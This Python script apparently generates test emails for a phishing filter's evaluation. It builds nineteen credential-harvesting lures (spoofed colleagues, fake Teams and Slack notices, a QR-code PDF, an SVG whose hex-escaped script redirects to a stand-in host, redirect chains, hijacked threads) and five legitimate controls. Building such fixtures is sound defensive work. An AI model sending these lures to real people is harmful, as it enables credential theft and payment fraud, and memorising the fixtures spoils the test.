# Targeted cases of a sixth red team (round 36) on campaign shapes of
# 2024-2026 the earlier red teams left out, written from general knowledge
# for the company mailbox (gen_company.py): Microsoft 365 "Direct Send"
# spoofing (a colleague's or an internal service's address forged from
# outside, no authentication results), lures on form and presentation
# builders (Jotform, Typeform, Gamma, Zoom Docs), Google AppSheet's genuine
# sender under the company's IT name, a genuine Dropbox Sign envelope from
# a stranger, a calendar invitation attached beside a cover note whose
# "Teams" link goes elsewhere, Teams and Slack "missed messages" look-alikes,
# a PDF whose QR code leads to a fresh domain, an SVG whose script spells
# its address in hex escapes, a TryCloudflare tunnel, a Tycoon-style chain
# of trusted redirects (Google's /url into Bing's /ck/a) and an Adobe
# Campaign redirect, a "DMARC failure" admin lure, an HR look-alike's open
# enrolment, and a known partner's hijacked thread pointing at a file on
# the partner's own SharePoint. And legitimate mail of the same surfaces
# from known correspondents (c25-c29), which must stay accepted.
# Writes only cases/company/phish-l2-*.eml and c25-c29 (removing its own
# first): the other generators own the rest of the directory.
import base64, os, urllib.parse
from gen_common import mixed, qr_pdf, clear_cases, write_case

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "cases")
A = "anna.kovac@brightwater.example"
B64 = base64.b64encode(A.encode()).decode()
MINE = ("phish-l2-", "c25-", "c26-", "c27-", "c28-", "c29-")
clear_cases(ROOT, {"company": A}, MINE)


def w(name, frm, subj, body, ct="text/html; charset=utf-8", extra=""):
    write_case(ROOT, A, "company", name, frm, subj, body, ct, extra)


def p(name, *a, **k):
    w("phish-l2-" + name, *a, **k)


STRANGER = "Marta Ilves <marta.ilves@ostrava-build.example>"

# 1. Direct Send: a colleague's own address forged from outside (the tenant's
# smart host accepts it unauthenticated), a voicemail notice to a fresh domain
p("direct-send-voicemail", "Ben Ortiz <ben.ortiz@brightwater.example>", "Voicemail from +1 (415) 555-0139 - 0:47",
  '<p>You received a new voice message.</p><p>Caller: +1 (415) 555-0139<br>Duration: 0:47<br>To: anna.kovac@brightwater.example</p>'
  '<p><a href="https://vmx-playback-portal.example/listen/?id=88213#' + B64 + '">&#9654; Play voice message</a></p>'
  '<p>Sign in with your Microsoft 365 account to listen. Forwarded by Brightwater Unified Messaging.</p>')
# 2. Direct Send: an internal service address that never wrote, a "shared document"
p("direct-send-scanner-doc", "Brightwater Scanner <scanner@brightwater.example>", "Scanned document: Payroll_Adjustments_Nov2026.pdf",
  '<p>A document has been shared with you from the office scanner.</p><p>Name: Payroll_Adjustments_Nov2026.pdf<br>Pages: 3</p>'
  '<p><a href="https://sharepoint-docview-secure.example/s/Payroll_Adjustments_Nov2026?login=' + A + '">Open document</a></p>'
  '<p>You must sign in with your work account to open this document.</p>')
# 3. a form builder: a stranger's "invoice approval" on Jotform
p("jotform-invoice", STRANGER, "Invoice 7731 awaiting your approval",
  '<p>Hello Anna,</p><p>our invoice 7731 for the showroom fit-out (EUR 18,420.00) is waiting for your approval. '
  'To keep the documents confidential we use a secure portal: verify your email and password to view and approve it.</p>'
  '<p><a href="https://form.jotform.com/243318852917462">View invoice 7731</a></p><p>Best regards,<br>Marta Ilves<br>Ostrava Build</p>')
# 4. open enrolment from an HR look-alike on Typeform
p("typeform-open-enrollment", "Brightwater HR Benefits <benefits@brightwater-hr.example>", "2027 Open Enrollment closes Friday - action required",
  '<p>Dear Anna,</p><p>Open enrollment for your 2027 health, dental and retirement benefits closes this Friday. '
  'If you do not confirm your elections, your coverage will lapse on 1 January.</p>'
  '<p><a href="https://brightwater-benefits.typeform.com/to/Xk29QpLm#email=' + A + '">Review and confirm my benefits</a></p>'
  '<p>Log in with your company email and password to continue.</p><p>Human Resources</p>')
# 5. AppSheet's genuine sender under the company's IT name, the button to a fresh domain
p("appsheet-it-password", '"Brightwater IT Support" <noreply@appsheet.com>', "Your password expires today",
  '<p>Hello anna.kovac,</p><p>The password for your account anna.kovac@brightwater.example expires today. '
  'Keep your current password to avoid losing access to email and files.</p>'
  '<p><a href="https://keep-password-now.example/m365/?u=' + B64 + '">Keep current password</a></p>'
  '<p>Brightwater IT Support</p><p>Sent via AppSheet</p>')
# 6. a genuine Dropbox Sign envelope from a stranger naming a payment document (the document links out, unseen)
p("dropbox-sign-stranger", '"Ostrava Build via Dropbox Sign" <noreply@mail.hellosign.com>', "Marta Ilves has requested your signature on Brightwater_Payment_Authorization.pdf",
  '<p>Marta Ilves (marta.ilves@ostrava-build.example) has requested your signature on <b>Brightwater_Payment_Authorization.pdf</b>.</p>'
  '<p>Message: Please review the payment authorization and confirm the updated bank details.</p>'
  '<p><a href="https://app.hellosign.com/sign/9f2b7c41d0e6a8b3?guid=51fa2c">Review &amp; sign</a></p>'
  '<p>Powered by Dropbox Sign</p>',
  extra="Reply-To: Marta Ilves <ostrava.build.billing@gmail.com>\r\n")
# 7. an invitation attached beside a cover note; the "Teams" link goes to a fresh domain
ics = ("BEGIN:VCALENDAR\nPRODID:-//Microsoft Corporation//Outlook 16.0 MIMEDIR//EN\nVERSION:2.0\nMETHOD:REQUEST\nBEGIN:VEVENT\n"
       "ORGANIZER;CN=Marta Ilves:mailto:marta.ilves@ostrava-build.example\n"
       "ATTENDEE;ROLE=REQ-PARTICIPANT;RSVP=TRUE;CN=Anna Kovac:mailto:" + A + "\n"
       "DTSTART:20261127T150000Z\nDTEND:20261127T153000Z\nDTSTAMP:20261126T095500Z\nUID:7c1e55b0-2d3a-4f1e-9b0a-ostrava\n"
       "SUMMARY:Q4 invoice reconciliation\nLOCATION:Microsoft Teams Meeting\n"
       "DESCRIPTION:Join Microsoft Teams meeting: https://teams-join-meeting.example/l/meetup-join/19%3ameeting_8812?e=" + B64 + "\\n"
       "Sign in with your work account to join.\n"
       "END:VEVENT\nEND:VCALENDAR\n")
p("ics-attached-teams-fake", STRANGER, "Invitation: Q4 invoice reconciliation - Thu 27 Nov 15:00",
  *mixed([("text/plain; charset=utf-8", "Hello Anna,\n\nplease accept the attached invitation for the invoice reconciliation call.\n\nMarta\n"),
          ("text/calendar; method=REQUEST", "invite.ics", ics.encode())]))
# 8. Teams "missed messages" look-alike
p("teams-missed-lookalike", "Microsoft Teams <no-reply@teams-activity-notify.example>", "You have 3 new messages in Microsoft Teams",
  '<p><b>Ben Ortiz</b> sent you a message in a chat</p><p>"Anna, can you check the contract before 3pm? I shared it in the chat."</p>'
  '<p><a href="https://teams-activity-notify.example/chat/open?tid=brightwater&u=' + B64 + '">Reply in Teams</a></p>'
  '<p>You have unread messages. Sign in to Microsoft Teams to read them.</p><p>Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</p>')
# 9. Slack "missed messages" look-alike under the workspace's name
p("slack-missed-lookalike", "Slack <notification@slack-workspace-alerts.example>", "[Slack] Ben Ortiz sent you a direct message",
  '<p>You have 1 new direct message in the <b>Brightwater</b> workspace.</p><p><b>Ben Ortiz</b>: the signed client contract is in this file, please confirm today</p>'
  '<p><a href="https://brightwater-slack.slack-workspace-alerts.example/signin?redir=dm">Open Slack</a></p>'
  '<p>Your session expired: sign in with your workspace email and password.</p>')
# 10. a PDF whose QR code leads to a fresh domain (qr/phish-l2-bonus.txt)
doc = qr_pdf(["Brightwater Design - Q4 bonus statement", "Your Q4 performance bonus has been approved.",
              "Scan the code with your phone and sign in to view and accept it:"], "phish-l2-bonus")
p("qr-pdf-bonus", "Payroll Department <payroll@brightwater-payroll.example>", "Q4 bonus statement - acknowledge by 28 Nov",
  *mixed([("text/plain; charset=utf-8", "Dear Anna,\n\nyour Q4 bonus statement is attached. Please scan the QR code in the document to acknowledge it by 28 November.\n\nPayroll Department\n"),
          ("application/pdf", "Q4_Bonus_Statement_Anna_Kovac.pdf", doc)]))
# 11. an SVG whose script spells its address in hex escapes
hexurl = "".join("\\x%02x" % ord(c) for c in "https://corvid-svg-auth.example/o/")
svg = ('<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"><script><![CDATA[\n'
       'var m="' + A + '";window.location.replace("' + hexurl + '"+"?e="+m);\n]]></script></svg>')
p("svg-hex-redirect", STRANGER, "Remittance advice - Ostrava Build",
  *mixed([("text/plain; charset=utf-8", "Hello Anna,\n\nthe remittance advice is attached.\n\nMarta Ilves\n"),
          ("image/svg+xml", "Remittance_Advice_Nov.svg", svg.encode())]))
# 12. a TryCloudflare tunnel behind a "verify you are human" page
p("trycloudflare-captcha", STRANGER, "Shared: Brightwater fit-out contract (final)",
  '<p>Hello Anna,</p><p>the final contract is shared below. Complete the quick human verification, then sign in with your Microsoft account to open it.</p>'
  '<p><a href="https://stocks-thereby-recorder-sunshine.trycloudflare.com/contract?e=' + B64 + '">Open contract</a></p><p>Marta</p>')
# 13. Tycoon-style chain of trusted redirects: Google /url into Bing /ck/a into a fresh domain
bing = ("https://www.bing.com/ck/a?!&&p=3f1a9c&ptn=3&ver=2&hsh=3&fclid=1b2c&u=a1"
        + base64.urlsafe_b64encode(b"https://auth-docs-review.example/ms/#" + B64.encode()).decode().rstrip("="))
p("redirect-chain-google-bing", STRANGER, "Project documents for review",
  '<p>Hello Anna,</p><p>the documents for the fit-out are ready for your review. Please sign in to view them.</p>'
  '<p><a href="https://www.google.com/url?q=' + urllib.parse.quote(bing, safe="") + '&sa=D&source=editors&ust=1764150000000&usg=AOvVaw3xk">View documents</a></p><p>Marta Ilves</p>')
# 14. an Adobe Campaign redirect (the campaign's p1 parameter names the landing host)
p("adobe-campaign-redirect", "Microsoft 365 <no-reply@m365-secure-notice.example>", "Your Microsoft 365 subscription has been suspended",
  '<p>Hello,</p><p>we could not process the payment for your Microsoft 365 subscription. Your mailbox will be suspended in 24 hours.</p>'
  '<p><a href="https://t.info.adobe.com/r/?id=h8a2f91c,7d3e11,7d3e12&p1=m365-billing-verify.example/upd?u=' + B64 + '">Update payment details</a></p>'
  '<p>Microsoft 365 Billing</p>')
# 15. a "DMARC failure" admin lure
p("dmarc-admin", "DMARC Reports <dmarc-reports@mail-auth-monitor.example>", "Urgent: brightwater.example is failing DMARC - outgoing mail will be rejected",
  '<p>Domain administrator,</p><p>our aggregate reports show that <b>brightwater.example</b> failed DMARC for 1,284 messages in the last 24 hours. '
  'Receivers will start rejecting your outgoing mail within 48 hours.</p>'
  '<p><a href="https://mail-auth-monitor.example/brightwater.example/fix?admin=' + A + '">Review report and fix records</a></p>'
  '<p>Sign in with your domain administrator account to apply the recommended SPF and DKIM records.</p>')
# 16. a presentation builder: Gamma, the page "signs in" to view
p("gamma-proposal", STRANGER, "Ostrava Build - proposal for Brightwater",
  '<p>Hello Anna,</p><p>our proposal and the payment schedule are in the presentation below. Please verify with your Microsoft 365 account to view the secured document.</p>'
  '<p><a href="https://gamma.app/docs/Ostrava-Build-Proposal-Brightwater-x7k2m9q4p1">View proposal</a></p><p>Marta Ilves</p>')
# 17. Zoom Docs: a shared document on zoom's own domain that "signs in"
p("zoom-docs-share", STRANGER, "Marta Ilves shared a document with you: Contract_Final.docx",
  '<p>Marta Ilves shared a document with you.</p><p><a href="https://docs.zoom.us/doc/Kx8QvP2mTq6aB1cD3eF4">Contract_Final.docx</a></p>'
  '<p>To view the document, sign in with your email account to verify your identity.</p>')
# 18. a known partner's hijacked thread, the file on the partner's own SharePoint (its PDF links out, unseen)
p("partner-hijack-own-sharepoint", "Rafael Costa <rafael.costa@studio-nove.example>", "Re: Moodboard and next steps",
  '<p>Hi Anna,</p><p>following up on this: the revised invoice and our new remittance details are in the document below. '
  'Please review it today and sign in with your Microsoft account if asked.</p>'
  '<p><a href="https://studionove.sharepoint.com/:b:/s/Finance/EfQ82kLm3?e=Pz41">Studio_Nove_Remittance_Update.pdf</a></p>'
  '<p>Best,<br>Rafael</p><blockquote><p>On Mon, 17 Nov 2026, Anna Kovac wrote:<br>Thanks Rafael, looks great.</p></blockquote>',
  extra="In-Reply-To: <thread-studionove@case.example>\r\nReferences: <thread-studionove@case.example>\r\n")
# 19. a known customer's hijacked thread, the "remittance" on the customer's usual Dropbox (its PDF links out, unseen)
p("customer-hijack-dropbox", "Sophie Marchand <s.marchand@cafe-rivage.example>", "Re: Photos for the brochure",
  '<p>Hi Anna,</p><p>our accounts team sent the payment for your invoice; the remittance advice is in our Dropbox. '
  'Sign in with your email to view it and confirm the amount received.</p>'
  '<p><a href="https://www.dropbox.com/scl/fi/q8r2t5/Remittance_Advice_Brightwater.pdf?rlkey=k71m&amp;dl=0">Remittance_Advice_Brightwater.pdf</a></p>'
  '<p>Cheers,<br>Sophie</p><blockquote><p>On Mon, 17 Nov 2026, Anna Kovac wrote:<br>Thanks Sophie, they look great.</p></blockquote>',
  extra="In-Reply-To: <thread-rivage@case.example>\r\nReferences: <thread-rivage@case.example>\r\n")

# legitimate mail of the same surfaces from known correspondents, to stay accepted
w("c25-colleague-canva", "Clara Nyberg <clara.nyberg@brightwater.example>", "Cafe Rivage menu - final version",
  "Hi Anna,\n\nthe final menu design is here, comments welcome before I send it to print: https://www.canva.com/design/DAGx7Rq2mPw/view\n\nClara\n",
  ct="text/plain; charset=utf-8")
w("c26-customer-jotform", "Maya Lund <maya@lund-architects.example>", "Project intake form for the new office",
  "Hi Anna,\n\ncould you fill in our intake form for the office branding project? It takes five minutes: https://form.jotform.com/243311129876543\n\nThanks,\nMaya\n",
  ct="text/plain; charset=utf-8")
w("c27-customer-gamma", "Jonas Pfeiffer <jonas.pfeiffer@alpenbrau.example>", "Our pitch for the brewery rebrand",
  '<p>Hi Anna,</p><p>here is how we pitched the rebrand to our board, made in Gamma: '
  '<a href="https://gamma.app/docs/Alpenbrau-Rebrand-Pitch-q8w3e5r7">Alpenbrau rebrand</a></p><p>Let me know what you think.<br>Jonas</p>')
w("c28-colleague-notion", "Ben Ortiz <ben.ortiz@brightwater.example>", "Offsite agenda",
  "Hi all,\n\nthe offsite agenda is in Notion: https://brightwater.notion.site/Offsite-2027-agenda-4b1c9e2f7a\n\nBen\n",
  ct="text/plain; charset=utf-8")
w("c29-customer-dropbox-thread", "Sophie Marchand <s.marchand@cafe-rivage.example>", "Re: Photos for the brochure",
  '<p>Hi Anna,</p><p>the last photos and our signed quote are in the same Dropbox folder as before: '
  '<a href="https://www.dropbox.com/scl/fo/abc7781/h?rlkey=x4412&amp;dl=0">Brochure photos</a></p>'
  '<p>Cheers,<br>Sophie</p><blockquote><p>On Mon, 17 Nov 2026, Anna Kovac wrote:<br>Thanks Sophie, they look great.</p></blockquote>',
  extra="In-Reply-To: <thread-rivage@case.example>\r\nReferences: <thread-rivage@case.example>\r\n")
